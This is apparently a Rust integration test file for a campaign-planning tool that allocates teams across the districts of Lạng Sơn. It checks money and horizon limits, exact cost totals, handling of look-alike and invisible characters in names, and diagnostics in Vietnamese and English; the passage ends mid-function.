//! Figures that would be silently wrong, and names that would pass for others (issue 13,
//! family 5): money beyond what is printed exactly is refused with the limit, a horizon beyond
//! ten years is refused as too long (not "at least 1 day"), and team kinds are compared as a
//! person reads them.

use campaign_planner::text::Lang;

use crate::support::{Test, WhatIf, f, u};

/// `campaign plan` of the shipped scenario with `settings`, in `lang`.
fn with(settings: &[&str], lang: &str) -> Test {
    let mut test = Test::shipped().lang(lang);
    for s in settings {
        test = test.arg("--set").arg(*s);
    }
    test
}

#[test]
fn a_budget_beyond_the_limit_is_refused_with_the_limit() {
    for (written, lang, said, hint) in [
        (
            "1e308",
            "vi",
            "ngân sách quá lớn: 1e308, nhiều nhất là 1.000.000.000.000.000 đ",
            "bỏ dòng budget nếu không giới hạn chi phí",
        ),
        (
            "18446744073709551616",
            "en",
            "the budget is too large: 18446744073709551616, at most 1,000,000,000,000,000 VND",
            "remove the budget line if spending is not limited",
        ),
    ] {
        let setting = format!("budget={written}");
        let out = with(&[&setting], lang).run().bad_input();
        assert!(
            out.stderr.contains(&format!("--set {setting}")),
            "{}",
            out.stderr
        );
        assert!(out.stderr.contains(said), "{}", out.stderr);
        assert!(out.stderr.contains(hint), "{}", out.stderr);
    }
    // the limit itself is accepted, and printed exactly
    let out = with(&["budget=1e15"], "vi").format("json").run().plan();
    assert_eq!(f(&out.json()["budget"]), 1e15);
}

#[test]
fn a_cost_per_team_day_beyond_the_limit_is_refused_in_the_file_too() {
    let what_if =
        WhatIf::shipped().replace("cost_per_team_day = 300_000", "cost_per_team_day = 1e17");
    let out = what_if.test().run().bad_input();
    assert!(
        out.stderr.contains("lang-son-2020-09-01.toml:"),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr.contains("loại đội `volunteer`"),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr
            .contains("chi phí mỗi đội mỗi ngày quá lớn: 1e17, nhiều nhất là 1.000.000.000 đ"),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr.contains("cost_per_team_day = 300_000"),
        "{}",
        out.stderr
    );
    let out = what_if.test().lang("en").run().bad_input();
    assert!(
        out.stderr
            .contains("the cost per team-day is too large: 1e17, at most 1,000,000,000 VND"),
        "{}",
        out.stderr
    );
}

/// A spend near what the limits allow is printed whole, never saturated at
/// 18.446.744.073.709.551.615: teams × days × cost per team-day, added exactly (the formatter
/// beyond 2^64 is tested in `number.rs`).
#[test]
fn the_largest_spend_the_limits_allow_is_printed_exactly() {
    let settings = [
        "team_kind.volunteer.cost_per_team_day=1e9",
        "team_kind.commune.cost_per_team_day=1e9",
        "horizon_days=3650",
    ];
    let json = with(&settings, "vi").format("json").run().plan().json();
    let teams = u(&json["province"]["teams"]);
    let cost = f(&json["province"]["cost"]);
    assert_eq!(
        cost,
        teams as f64 * 3650.0 * 1e9,
        "every team works every day"
    );
    assert!(cost > 1e14, "the case reaches far up: {cost}");
    let text = with(&settings, "vi").run().plan().stdout;
    let expected = crate::common::printed::count(Lang::Vi, cost);
    assert!(
        text.contains(&format!("{expected} đ")),
        "{expected} in\n{text}"
    );
    assert!(!text.contains("18.446.744.073.709.551.615"), "{text}");
    let csv = with(&settings, "vi").format("csv").run().plan().stdout;
    assert!(csv.contains(&format!(",{cost:.0},")), "{cost:.0} in\n{csv}");
}

/// Beyond 10^15 đ money stops adding exactly to the đồng (and a spreadsheet shows 15 digits):
/// a scenario whose teams could spend more is refused, naming the costliest kind, before any
/// plan prints a total that is not the sum of its rows (the trial's 3.869 × 10^21 đ total was
/// 1.6 × 10^9 đ away from the sum of its printed districts).
#[test]
fn teams_that_could_spend_beyond_exact_money_are_refused_naming_the_kind() {
    let settings = [
        "team_kind.volunteer.cost_per_team_day=1e9",
        "team_kind.volunteer.available=100000",
    ];
    for (lang, said, hint) in [
        (
            "vi",
            "mọi tổ, đội làm đủ 14 ngày sẽ tốn tới 1.400.000.420.000.000 đ, nhiều hơn mức \
             1.000.000.000.000.000 đ",
            "kiểm tra `cost_per_team_day` của loại `volunteer`",
        ),
        (
            "en",
            "every team of every kind working all 14 days would cost up to \
             1,400,000,420,000,000 VND, more than the 1,000,000,000,000,000 VND",
            "check `cost_per_team_day` of kind `volunteer`",
        ),
    ] {
        let out = with(&settings, lang).run().bad_input();
        assert!(out.stderr.contains(said), "{}", out.stderr);
        assert!(out.stderr.contains(hint), "{}", out.stderr);
        assert!(
            out.stderr.contains("team_kind.volunteer.cost_per_team_day"),
            "{}",
            out.stderr
        );
    }
}

/// Trial 13g K19: a cost per team-day is whole đồng (decimals are refused: the catalogue's
/// "a cost per team-day in fractions of a đồng"), so each district's cost is exact, the total
/// under the table is both the sum of the printed rows and the exact total, and a plan whose
/// exact cost is its budget prints a total no larger than the budget.
#[test]
fn a_total_cost_is_the_sum_of_the_printed_district_costs() {
    let settings = [
        "horizon_days=15",
        "team_kind.volunteer.cost_per_team_day=300001",
        "team_kind.commune.cost_per_team_day=150001",
    ];
    let csv = with(&settings, "en").format("csv").run().plan().stdout;
    let mut rows = csv::ReaderBuilder::new().from_reader(csv.as_bytes());
    let headers = rows.headers().expect("a header").clone();
    let column = headers
        .iter()
        .position(|h| h.to_lowercase().contains("cost"))
        .expect("a cost column");
    let mut sum = 0i128;
    let mut total = None;
    for row in rows.records() {
        let row = row.expect("a row");
        let cost: i128 = row[column]
            .replace(',', "")
            .parse()
            .expect("a whole number");
        if row[0].eq_ignore_ascii_case("total") {
            total = Some(cost);
        } else {
            sum += cost;
        }
    }
    assert_eq!(total, Some(sum), "{csv}");
    let json = with(&settings, "en").format("json").run().plan().json();
    // the exact cost: teams × days × cost per team-day, summed over the districts
    let days = f(&json["horizon_days"]);
    let per_day = |kind: &serde_json::Value| {
        json["team_kinds"]
            .as_array()
            .expect("team kinds")
            .iter()
            .find(|k| k["name"] == *kind)
            .map(|k| f(&k["cost_per_team_day"]))
            .expect("the kind")
    };
    let exact: f64 = json["districts"]
        .as_array()
        .expect("districts")
        .iter()
        .flat_map(|d| d["allocation"].as_array().expect("allocation"))
        .map(|a| f(&a["teams"]) * days * per_day(&a["kind"]))
        .sum();
    // JSON's money is the printed figures (trial 13f J28)
    assert_eq!(
        f(&json["province"]["cost"]) as i128,
        sum,
        "JSON province cost"
    );
    assert_eq!(exact, sum as f64, "every cost is whole đồng");
    // the budget at the plan's exact cost: the printed total is the budget, not above it
    let budget = format!("budget={sum}");
    let mut with_budget = settings.to_vec();
    with_budget.push(&budget);
    let text = with(&with_budget, "en").run().plan().stdout;
    let printed = crate::common::printed::count(Lang::En, sum as f64);
    // the same figure twice: the total cost and the budget
    assert!(
        text.matches(&format!("{printed} VND")).count() >= 2,
        "{printed} in\n{text}"
    );
}

/// A max-installs plan below its target says why, as the least-cost plan's finding does
/// ("36 more volunteer teams"), in every language and in JSON, and keeps exit status 0 (every
/// constraint holds: the target is what the most installs reach, not a constraint).
#[test]
fn a_missed_target_under_max_installs_says_what_would_reach_it() {
    let settings = ["team_kind.volunteer.available=0", "rules=[]"];
    let vi = with(&settings, "vi").run().plan().stdout;
    assert!(
        vi.contains("Mục tiêu 40% chưa đạt: phương án này cho nhiều lượt cài nhất với các tổ, đội hiện có, được 36,67%. Để đạt mục tiêu: Cần thêm 36 đội tình nguyện"),
        "{vi}"
    );
    let en = with(&settings, "en").run().plan().stdout;
    assert!(
        en.contains("The 40% target is not reached: this plan gives the most installs the teams at hand can, 36.67%. To reach the target: 36 more volunteer teams"),
        "{en}"
    );
    assert!(en.contains("--set objective=min-cost"), "{en}");
    let json = with(&settings, "en").format("json").run().plan().json();
    // after the notice that the settings were for this run
    assert_eq!(json["notices"][0]["notice"], "set_for_this_run");
    // (then the notice that the run has no rules, user14 U5)
    assert_eq!(json["notices"][1]["notice"], "no_rules");
    let notice = &json["notices"][2];
    assert_eq!(notice["notice"], "target_not_reached", "{notice}");
    assert_eq!(notice["findings"][0]["finding"], "target_teams_short");
    assert_eq!(notice["findings"][0]["more"], 36);
    assert_eq!(json["status"], "optimal");
    // with the 36 teams the finding names, the target is reached: the figure is enough
    let json = with(&["team_kind.volunteer.available=36", "rules=[]"], "en")
        .format("json")
        .run()
        .plan()
        .json();
    assert_eq!(
        json["province"]["target_reached"], true,
        "{}",
        json["province"]
    );
}

/// A district an old encoding wrote `Ðình Lập` (a Latin eth) is kept as `Đình Lập`: a rule that
/// compares `district.name` with "Đình Lập" finds it, and every output prints the one spelling
/// (the second trial's N1: the rule silently did nothing, exit 0).
#[test]
fn a_name_written_with_an_eth_is_kept_with_the_vietnamese_d() {
    let what_if = WhatIf::shipped()
        .replace("name = \"Đình Lập\"", "name = \"Ðình Lập\"")
        .edit_rule(
            "communication",
            "fn before_solve(district, scenario) {",
            "fn before_solve(district, scenario) {\n    if district.name == \"Đình Lập\" { district.min_teams(\"volunteer\", 4); }",
        );
    let json = what_if.test().format("json").run().plan().json();
    let names: Vec<&str> = crate::support::districts(&json)
        .iter()
        .map(|d| crate::support::s(&d["name"]))
        .collect();
    assert!(names.contains(&"Đình Lập"), "{names:?}");
    assert!(!names.iter().any(|n| n.contains('\u{D0}')), "{names:?}");
    let volunteers =
        crate::support::teams(crate::support::district(&json, "Đình Lập"), "volunteer");
    assert!(volunteers >= 4, "the rule found the district: {volunteers}");
}

/// A district written with a dotless `ı` (a Turkish keyboard: `Lộc Bı̀nh`) is `Lộc Bình`: a rule
/// that compares `district.name` with "Lộc Bình" finds it, a `--set` typed either way changes
/// it, and the outputs print the one spelling (the second trial's N11: it passed as another
/// district).
#[test]
fn a_name_written_with_a_dotless_i_is_that_district() {
    let dotless = "Lộc B\u{131}\u{300}nh";
    let what_if = WhatIf::shipped()
        .replace("name = \"Lộc Bình\"", &format!("name = \"{dotless}\""))
        .edit_rule(
            "communication",
            "fn before_solve(district, scenario) {",
            "fn before_solve(district, scenario) {\n    if district.name == \"Lộc Bình\" { district.min_teams(\"volunteer\", 4); }",
        );
    let json = what_if.test().format("json").run().plan().json();
    let names: Vec<&str> = crate::support::districts(&json)
        .iter()
        .map(|d| crate::support::s(&d["name"]))
        .collect();
    assert!(names.contains(&"Lộc Bình"), "{names:?}");
    assert!(!names.iter().any(|n| n.contains('\u{131}')), "{names:?}");
    let lb = crate::support::district(&json, "Lộc Bình");
    assert!(
        crate::support::teams(lb, "volunteer") >= 4,
        "the rule found the district"
    );
    // the shipped scenario, the setting typed with the dotless ı, and the other way round
    for (what_if, name) in [
        (WhatIf::shipped(), dotless),
        (
            WhatIf::shipped().replace("name = \"Lộc Bình\"", &format!("name = \"{dotless}\"")),
            "Lộc Bình",
        ),
    ] {
        let json = what_if
            .test()
            .arg("--set")
            .arg(format!("district.\"{name}\".installed=20000"))
            .format("json")
            .run()
            .plan()
            .json();
        let lb = crate::support::district(&json, "Lộc Bình");
        assert_eq!(crate::support::u(&lb["installed"]), 20000, "{name}");
    }
}

#[test]
fn a_horizon_beyond_ten_years_is_too_long_not_too_short() {
    for (days, lang, said, not) in [
        (
            "9223372036854775807",
            "vi",
            "số ngày của đợt quá lớn: 9223372036854775807, nhiều nhất là 3.650 ngày",
            "từ 1 trở lên",
        ),
        (
            "3651",
            "en",
            "the horizon is too long: 3651 days, at most 3,650",
            "at least 1 day",
        ),
    ] {
        let setting = format!("horizon_days={days}");
        let out = with(&[&setting], lang).run().bad_input();
        assert!(out.stderr.contains(said), "{}", out.stderr);
        assert!(!out.stderr.contains(not), "{}", out.stderr);
        assert!(out.stderr.contains("horizon_days = 14"), "{}", out.stderr);
    }
    let out = with(&["horizon_days=0"], "en").run().bad_input();
    assert!(
        out.stderr.contains("at least 1 day (it is 0)"),
        "{}",
        out.stderr
    );
    with(&["horizon_days=3650"], "vi").run().plan();
}

#[test]
fn team_kinds_that_differ_only_in_case_are_one_kind() {
    // a second entry `Volunteer` beside `volunteer` is the same kind written twice
    let what_if = WhatIf::shipped().replace(
        "[[team_kind]]\nname = \"volunteer\"",
        "[[team_kind]]\nname = \"Volunteer\"\nscope = \"provincial\"\ninstalls_per_team_day = 40\n\n[[team_kind]]\nname = \"volunteer\"",
    );
    let out = what_if.test().run().bad_input();
    assert!(
        out.stderr
            .contains("loại đội `volunteer` bị khai báo hai lần"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("lần đầu ở dòng"), "{}", out.stderr);

    // a district's teams, a --set and a rule may write the kind in any case: the same plan
    let reference = Test::shipped().format("json").run().plan().stdout;
    let what_if = WhatIf::shipped().replace("name = \"commune\"", "name = \"Commune\"");
    let json = what_if.test().format("json").run().plan().json();
    let shipped: serde_json::Value = serde_json::from_str(&reference).unwrap();
    assert_eq!(json["province"], shipped["province"]);
    let upper = with(&["team_kind.VOLUNTEER.available=10"], "vi")
        .format("json")
        .run()
        .plan();
    let lower = with(&["team_kind.volunteer.available=10"], "vi")
        .format("json")
        .run()
        .plan();
    assert_eq!(upper.json()["province"], lower.json()["province"]);
    // the kind keeps the name its scenario gives it, whatever case the setting used
    assert!(upper.stdout.contains("\"volunteer\""));
    assert!(!upper.stdout.contains("VOLUNTEER\""));
}

#[test]
fn a_team_kind_name_with_an_invisible_character_is_refused() {
    let what_if = WhatIf::shipped().replace("name = \"volunteer\"", "name = \"volunteer\u{200b}\"");
    let out = what_if.test().run().bad_input();
    assert!(
        out.stderr.contains("mục `team_kind.name`"),
        "{}",
        out.stderr
    );
    assert!(
        out.stderr
            .contains("một dấu cách rộng 0 (U+200B) ở ký tự thứ 10 (\"volunteer\\u{200b}\")"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("gõ lại tên loại đội"), "{}", out.stderr);
    let out = what_if.test().lang("en").run().bad_input();
    assert!(
        out.stderr
            .contains("the team kind's name has a zero-width space (U+200B) at character 10"),
        "{}",
        out.stderr
    );
    assert!(out.stderr.contains("type the name again"), "{}", out.stderr);
}

/// Five volunteer teams for a 38% target: the door-to-door rule's one volunteer team in each
/// district below the threshold needs 8. The target is reached (39,81%); the rule's minimums
/// are what cannot be met, and plan, sweep and compare all say so, naming the rule and the
/// teams missing (issue 13 item 8).
#[test]
fn minimums_a_pool_cannot_meet_name_the_rule_not_the_target() {
    let five = [
        "team_kind.volunteer.available=5",
        "target.provincial_rate=0.38",
    ];
    let json = with(&five, "vi").format("json").run().code(2).json();
    let findings = json["findings"].as_array().unwrap();
    assert_eq!(findings[0]["finding"], "pool_minimums", "{findings:?}");
    assert_eq!(findings[0]["rules"], serde_json::json!(["door-to-door"]));
    assert_eq!(
        u(&findings[0]["required"]) - u(&findings[0]["available"]),
        3
    );
    assert!(json["province"]["target_reached"].as_bool().unwrap());
    // exactly enough: with the 3 teams the finding asks for, the scenario can be met
    let eight = [
        "team_kind.volunteer.available=8",
        "target.provincial_rate=0.38",
    ];
    with(&eight, "vi").run().plan();

    let vi = with(&five, "vi").run().code(2).stdout;
    assert!(
        vi.contains("Quy tắc `door-to-door` yêu cầu tổng cộng ít nhất 8 đội tình nguyện ở các huyện nhưng toàn tỉnh chỉ có 5: cần thêm 3 đội tình nguyện"),
        "{vi}"
    );
    let en = with(&five, "en").run().code(2).stdout;
    assert!(
        en.contains("The rule `door-to-door` asks for at least 8 volunteer teams across the districts but only 5 are available: 3 more volunteer teams are needed"),
        "{en}"
    );

    let sweep = |lang: &str| {
        Test::new()
            .args(["sweep", crate::layout::SHIPPED])
            .args(["--set", "target.provincial_rate=0.38"])
            .args(["--vary", "team_kind.volunteer.available=6..9:1"])
            .lang(lang)
            .run()
            .stdout
    };
    let vi = sweep("vi");
    assert!(!vi.contains("chưa đạt mục tiêu"), "{vi}");
    assert!(
        vi.contains("  6: Quy tắc `door-to-door` yêu cầu tổng cộng ít nhất 8 đội tình nguyện ở các huyện nhưng toàn tỉnh chỉ có 6: cần thêm 2 đội tình nguyện"),
        "{vi}"
    );
    assert!(vi.contains("  7: Quy tắc `door-to-door`"), "{vi}");
    assert!(!vi.contains("  8: "), "8 teams meet the minimums: {vi}");
    let en = sweep("en");
    assert!(!en.contains("short of the target"), "{en}");
    assert!(
        en.contains("  7: The rule `door-to-door` asks for at least 8 volunteer teams"),
        "{en}"
    );

    let what_if = WhatIf::shipped()
        .set("available", "5")
        .set("provincial_rate", "0.38");
    let compared = Test::new()
        .args(["compare", crate::layout::SHIPPED])
        .arg(what_if.path())
        .run()
        .stdout;
    assert!(
        compared.contains("Vì sao kịch bản B không khả thi:"),
        "{compared}"
    );
    assert!(
        compared.contains("Quy tắc `door-to-door` yêu cầu tổng cộng ít nhất 8 đội tình nguyện"),
        "{compared}"
    );
}

/// A budget below what the rules' minimum teams cost (trial 13f J4): plan, sweep and compare
/// name the rule, the teams it asks for in how many districts, what they cost over the
/// campaign, the budget, and the least budget that works (exactly: with it the plan is met,
/// with one cost step less it is not), each figure checked against the plan's own JSON.
#[test]
fn a_budget_below_the_rules_minimums_names_the_rule_in_plan_sweep_and_compare() {
    let json = with(&["budget=1000000"], "en")
        .format("json")
        .run()
        .code(2)
        .json();
    let [finding] = json["findings"].as_array().unwrap().as_slice() else {
        panic!("{}", json["findings"]);
    };
    assert_eq!(finding["finding"], "budget_short");
    assert_eq!(finding["exact"], true);
    let minimums = &finding["minimums"];
    assert_eq!(minimums["rules"], serde_json::json!(["door-to-door"]));
    // the teams and their cost, from the districts' own min_teams: H · Σ c_k · min_teams
    let horizon = u(&json["horizon_days"]);
    let kinds = json["team_kinds"].as_array().unwrap();
    let mut cost = 0.0;
    let mut with_minimum = 0;
    let mut teams = std::collections::BTreeMap::new();
    for d in crate::support::districts(&json) {
        let mut any = false;
        for a in d["allocation"].as_array().unwrap() {
            let n = u(&a["min_teams"]);
            let kind = kinds.iter().find(|k| k["name"] == a["kind"]).unwrap();
            cost += horizon as f64 * f(&kind["cost_per_team_day"]) * n as f64;
            *teams
                .entry(a["kind"].as_str().unwrap().to_string())
                .or_insert(0) += n;
            any |= n > 0;
        }
        with_minimum += u64::from(any);
    }
    assert_eq!(
        (teams["commune"], teams["volunteer"], with_minimum),
        (158, 8, 8)
    );
    assert_eq!(cost, 365_400_000.0);
    assert_eq!(f(&minimums["cost"]), cost);
    assert_eq!(u(&minimums["horizon_days"]), horizon);
    assert_eq!(minimums["districts"].as_array().unwrap().len(), 8);
    assert_eq!(f(&finding["budget"]), 1_000_000.0);
    assert_eq!(f(&finding["more"]), cost - 1_000_000.0);
    // exactly enough: with it the plan is met; a cost step (2,100,000 đ) less, not
    with(&["budget=365400000"], "en").run().plan();
    with(&["budget=363300000"], "en").run().code(2);

    let en = "The rule `door-to-door` asks for at least 158 commune teams and 8 volunteer teams in 8 districts, which cost 365,400,000 VND over 14 days, but the budget is 1,000,000 VND: raise the budget to at least 365,400,000 VND, or change the rule";
    let vi = "Quy tắc `door-to-door` yêu cầu ít nhất 158 tổ xã và 8 đội tình nguyện ở 8 huyện, chi phí 365.400.000 đ trong 14 ngày, nhưng ngân sách chỉ có 1.000.000 đ: tăng ngân sách lên ít nhất 365.400.000 đ, hoặc sửa quy tắc";
    assert_eq!(json["diagnosis"], en);
    let out = with(&["budget=1000000"], "en").run().code(2).stdout;
    assert!(
        out.contains(&format!("Why it cannot be met:\n  - {en}\n")),
        "{out}"
    );
    let out = with(&["budget=1000000"], "vi").run().code(2).stdout;
    assert!(out.contains(&format!("  - {vi}\n")), "{out}");

    let sweep = |lang: &str| {
        Test::new()
            .args(["sweep", crate::layout::SHIPPED])
            .args(["--vary", "budget=100000000..400000000:100000000"])
            .lang(lang)
            .run()
            .stdout
    };
    let en = sweep("en");
    assert!(
        en.contains("  100,000,000: The rule `door-to-door` asks for at least 158 commune teams and 8 volunteer teams in 8 districts, which cost 365,400,000 VND over 14 days, but the budget is 100,000,000 VND: raise the budget to at least 365,400,000 VND, or change the rule\n"),
        "{en}"
    );
    assert!(!en.contains("short\n"), "{en}");
    let vi = sweep("vi");
    assert!(
        vi.contains(": Quy tắc `door-to-door` yêu cầu ít nhất 158 tổ xã và 8 đội tình nguyện ở 8 huyện, chi phí 365.400.000 đ trong 14 ngày, nhưng ngân sách chỉ có 300.000.000 đ: tăng ngân sách lên ít nhất 365.400.000 đ, hoặc sửa quy tắc\n"),
        "{vi}"
    );

    let what_if = WhatIf::shipped().set("budget", "300_000_000");
    let compared = |lang: &str| {
        Test::new()
            .args(["compare", crate::layout::SHIPPED])
            .arg(what_if.path())
            .lang(lang)
            .run()
            .stdout
    };
    let vi = compared("vi");
    assert!(
        vi.contains("Quy tắc `door-to-door` yêu cầu ít nhất 158 tổ xã và 8 đội tình nguyện ở 8 huyện, chi phí 365.400.000 đ trong 14 ngày, nhưng ngân sách chỉ có 300.000.000 đ: tăng ngân sách lên ít nhất 365.400.000 đ, hoặc sửa quy tắc"),
        "{vi}"
    );
    let en = compared("en");
    assert!(
        en.contains("The rule `door-to-door` asks for at least 158 commune teams and 8 volunteer teams in 8 districts, which cost 365,400,000 VND over 14 days, but the budget is 300,000,000 VND: raise the budget to at least 365,400,000 VND, or change the rule"),
        "{en}"
    );
}

/// Under max-min-rate the teams-to-spare notice says what the least-cost plan does to the
/// lowest district, and the settings that keep this plan's lowest rate at the least cost
/// (trial 13f J12); each figure is that of the plan the settings give.
#[test]
fn under_max_min_rate_the_teams_to_spare_notice_says_what_min_cost_does_to_the_lowest_district() {
    let json = with(&["objective=max-min-rate"], "en")
        .format("json")
        .run()
        .plan()
        .json();
    let notices = json["notices"].as_array().unwrap();
    let n = notices
        .iter()
        .find(|n| n["notice"] == "target_met_with_teams_to_spare")
        .unwrap_or_else(|| panic!("{notices:?}"));
    let lowest = &n["lowest"];
    let rate_of = |plan: &serde_json::Value, name: &serde_json::Value| {
        let d = crate::support::districts(plan)
            .iter()
            .find(|d| d["name"] == *name)
            .unwrap();
        f(&d["projected_rate"])
    };
    assert_eq!(f(&lowest["rate"]), crate::support::lowest_rate(&json));
    assert_eq!(rate_of(&json, &lowest["district"]), f(&lowest["rate"]));
    let cheapest = with(&["objective=min-cost"], "en")
        .format("json")
        .run()
        .plan()
        .json();
    assert_eq!(
        f(&lowest["min_cost_rate"]),
        crate::support::lowest_rate(&cheapest)
    );
    assert_eq!(
        rate_of(&cheapest, &lowest["min_cost_district"]),
        f(&lowest["min_cost_rate"])
    );
    assert_eq!(
        (
            lowest["district"].as_str(),
            lowest["min_cost_district"].as_str()
        ),
        (Some("Cao Lộc"), Some("Hữu Lũng"))
    );
    // the floor keeps this plan's lowest rate (cut to a hundredth of a point) at the least cost
    let floor = f(&lowest["floor"]);
    assert!(floor <= f(&lowest["rate"]) && f(&lowest["rate"]) - floor < 1e-4);
    assert_eq!(
        lowest["floor_settings"],
        serde_json::json!(["objective=min-cost", "target.district_floor=0.3995"])
    );
    let kept = with(
        &["objective=min-cost", "target.district_floor=0.3995"],
        "en",
    )
    .format("json")
    .run()
    .plan()
    .json();
    assert!(crate::support::lowest_rate(&kept) >= floor - 1e-9);
    assert!(f(&kept["province"]["cost"]) <= f(&json["province"]["cost"]));

    let en = with(&["objective=max-min-rate"], "en").run().plan().stdout;
    assert!(
        en.contains("against this plan's 230 teams and 546,000,000 VND, but its lowest district falls from 39.95% (Cao Lộc) to 32.32% (Hữu Lũng). To make that plan, run the command again with --set objective=min-cost; to keep every district at 39.95% or more at the least cost, run it with --set objective=min-cost --set target.district_floor=0.3995\n"),
        "{en}"
    );
    let vi = with(&["objective=max-min-rate"], "vi").run().plan().stdout;
    assert!(
        vi.contains("của phương án này, nhưng huyện thấp nhất giảm từ 39,95% (Cao Lộc) xuống 32,32% (Hữu Lũng). Để lập phương án đó, chạy lại lệnh với --set objective=min-cost; để giữ mọi huyện từ 39,95% trở lên với chi phí thấp nhất, chạy với --set objective=min-cost --set target.district_floor=0.3995\n"),
        "{vi}"
    );
    // max-installs without a floor: the notice is as it was, about the province alone
    let fifteen = [
        "team_kind.volunteer.available=15",
        "target.provincial_rate=0.38",
    ];
    let json = with(&fifteen, "en").format("json").run().plan().json();
    let n = &json["notices"][1];
    assert_eq!(n["notice"], "target_met_with_teams_to_spare");
    assert!(n.get("lowest").is_none(), "{n}");
}

/// The best reachable plan keeps the rule's minimums where they fit, for the districts with the
/// lowest rate first (MODEL.md): five volunteer teams go to the five weakest of the eight
/// districts the door-to-door rule asks one for; with seven, only the strongest of the eight
/// (Lộc Bình, 29,63%) goes without. The plan still reports the rule's own minimum of 1.
#[test]
fn minimums_that_do_not_fit_are_kept_for_the_lowest_rates_first() {
    let weakest = |available: &str| {
        let setting = format!("team_kind.volunteer.available={available}");
        let json = with(&[&setting], "vi").format("json").run().code(2).json();
        let mut kept: Vec<(String, u64)> = crate::support::districts(&json)
            .iter()
            .filter(|d| crate::support::allocation(d, "volunteer")["min_teams"] == 1)
            .map(|d| {
                let name = d["name"].as_str().unwrap().to_string();
                (name, crate::support::teams(d, "volunteer"))
            })
            .collect();
        assert_eq!(
            kept.len(),
            8,
            "the rule's own minimums are reported: {kept:?}"
        );
        kept.retain(|(_, teams)| *teams >= 1);
        kept.into_iter().map(|(n, _)| n).collect::<Vec<_>>()
    };
    let mut five = weakest("5");
    five.sort();
    assert_eq!(
        five,
        ["Bình Gia", "Chi Lăng", "Hữu Lũng", "Văn Lãng", "Văn Quan"],
        "the five lowest rates: 22,98%, 23,32%, 23,66%, 24,73%, 25,06%"
    );
    let seven = weakest("7");
    assert_eq!(seven.len(), 7, "{seven:?}");
    assert!(!seven.contains(&"Lộc Bình".to_string()), "{seven:?}");
}

/// With max-installs and the target already met, the plan says so, with what `min-cost` would
/// save and the setting that plans it; its figures are those of that plan (issue 13 item 9:
/// with 15 volunteer teams and a 38% target, 365.400.000 đ instead of the full spend).
#[test]
fn a_target_met_with_teams_to_spare_says_what_min_cost_would_save() {
    let fifteen = [
        "team_kind.volunteer.available=15",
        "target.provincial_rate=0.38",
    ];
    let json = with(&fifteen, "vi").format("json").run().plan().json();
    let notices = json["notices"].as_array().unwrap();
    assert_eq!(notices.len(), 2, "{notices:?}");
    assert_eq!(notices[0]["notice"], "set_for_this_run");
    let n = &notices[1];
    assert_eq!(n["notice"], "target_met_with_teams_to_spare");
    assert_eq!(n["setting"], "objective=min-cost");
    assert_eq!(f(&n["min_cost"]), 365_400_000.0);
    assert_eq!(f(&n["cost"]), f(&json["province"]["cost"]));
    assert_eq!(f(&n["saving"]), f(&n["cost"]) - 365_400_000.0);

    // the figures are those of the plan the setting gives
    let cheapest = with(&[fifteen[0], fifteen[1], "objective=min-cost"], "vi")
        .format("json")
        .run()
        .plan()
        .json();
    assert_eq!(f(&cheapest["province"]["cost"]), f(&n["min_cost"]));
    assert_eq!(u(&cheapest["province"]["teams"]), u(&n["min_cost_teams"]));
    assert_eq!(
        f(&cheapest["province"]["projected_rate"]),
        f(&n["min_cost_projected_rate"])
    );
    // min-cost has nothing to save: its one notice says the settings were for this run
    let kinds: Vec<&serde_json::Value> = cheapest["notices"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| &n["notice"])
        .collect();
    assert_eq!(
        kinds,
        [&serde_json::json!("set_for_this_run")],
        "min-cost has nothing to save"
    );

    let vi = with(&fifteen, "vi").run().plan().stdout;
    let cost = crate::common::printed::count(Lang::Vi, f(&n["cost"]));
    let saving = crate::common::printed::count(Lang::Vi, f(&n["saving"]));
    assert!(vi.contains("Lưu ý:\n  - Đã thay đổi cho lần chạy này (--set), không phải kế hoạch của kịch bản: target.provincial_rate = 0.38 (kịch bản: 0.4); team_kind.volunteer.available = 15 (kịch bản: 30)\n  - Mục tiêu 38% đã đạt và còn dư đội: phương án chi phí thấp nhất đạt 38,48% với 166 tổ, đội và 365.400.000 đ"), "{vi}");
    assert!(
        vi.contains(&format!(
            "tiết kiệm {saving} đ so với 215 tổ, đội và {cost} đ"
        )),
        "{vi}"
    );
    assert!(
        vi.contains("chạy lại lệnh với --set objective=min-cost"),
        "{vi}"
    );
    let en = with(&fifteen, "en").run().plan().stdout;
    assert!(en.contains("Worth knowing:\n  - Changed for this run (--set), not the scenario's own plan: target.provincial_rate = 0.38 (scenario: 0.4); team_kind.volunteer.available = 15 (scenario: 30)\n  - The 38% target is met with teams to spare: the least-cost plan reaches 38.48% with 166 teams for 365,400,000 VND"), "{en}");
    assert!(
        en.contains("run the command again with --set objective=min-cost"),
        "{en}"
    );

    // a target out of reach has nothing to spare: it says what would reach it instead
    let short = with(&["target.provincial_rate=0.45"], "vi")
        .format("json")
        .run()
        .plan()
        .json();
    assert_eq!(short["province"]["target_reached"], false);
    let kinds: Vec<&str> = short["notices"]
        .as_array()
        .expect("notices")
        .iter()
        .map(|n| n["notice"].as_str().unwrap_or(""))
        .collect();
    assert_eq!(kinds, ["set_for_this_run", "target_not_reached"]);
    // the printed page says it too (the workbook writes the same sentences under its summary)
    let html = with(&fifteen, "vi").format("html").run().plan().stdout;
    assert!(html.contains("<li>Mục tiêu 38% đã đạt"), "notice in HTML");
}

/// `explain` compares one team here with one elsewhere: the installs it says a move would cost
/// or add are the difference of the two figures it prints beside them, whatever the decimals
/// behind them (issue 13 item 10: "loses 2 installs" between figures that differ by 1).
#[test]
fn explain_states_differences_of_the_figures_it_prints() {
    let number = |text: &str| -> i64 { text.replace(',', "").parse().unwrap() };
    let mut checked = 0;
    for d in (1..=700).step_by(23) {
        let district = format!("Huyện {d:03}");
        let out = Test::new()
            .args([
                "explain",
                "scenarios/synthetic-700.toml",
                "--district",
                &district,
            ])
            .lang("en")
            .run()
            .code(0)
            .stdout;
        for line in out.lines() {
            // "One more volunteer team here would bring +459 installs; the least useful ...
            // brings +460 installs there, so the plan keeps it there: moving it here would cost
            // the province 1 install."
            let after = |pattern: &str| -> Option<i64> {
                let (_, rest) = line.split_once(pattern)?;
                Some(number(rest.split(' ').next()?))
            };
            let figures = match (after("would bring +"), after(" brings +")) {
                (Some(here), Some(there)) => Some((here, there)),
                _ => after("would lose ").zip(after("would gain +")),
